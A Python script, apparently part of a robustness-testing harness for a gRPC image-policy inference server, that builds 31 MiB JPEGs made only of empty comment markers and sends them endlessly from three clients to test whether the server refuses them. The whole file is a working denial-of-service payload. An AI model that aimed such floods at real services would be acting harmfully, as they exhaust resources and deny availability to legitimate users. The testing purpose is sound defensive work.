"""JPEG files of 31 MiB that hold nothing but empty comments."""

from handover_proto.types import EncodedImage, ImageCodec, Observation, PolicyRequest
from handover_proto.wire.messages import serialize_request

from .arena import Attack, Target, strike_from_command_line
from .calls import call_for_ever
from .h2 import INFER

ATTACK = Attack("JPEG of markers", "31 MiB of empty comments, 3 clients, one by one")
CLIENTS = 3


def strike(target: Target) -> None:
    """Send them and read the refusals."""
    file = b"\xff\xd8" + b"\xff\xfe\x00\x02" * (31 << 18)
    image = EncodedImage(ImageCodec.JPEG, file)
    data = serialize_request(PolicyRequest(Observation({"ego_view": [image]}, {}, "refuse me")))
    call_for_ever(target.grpc, INFER, data, CLIENTS)


if __name__ == "__main__":
    strike_from_command_line(strike)
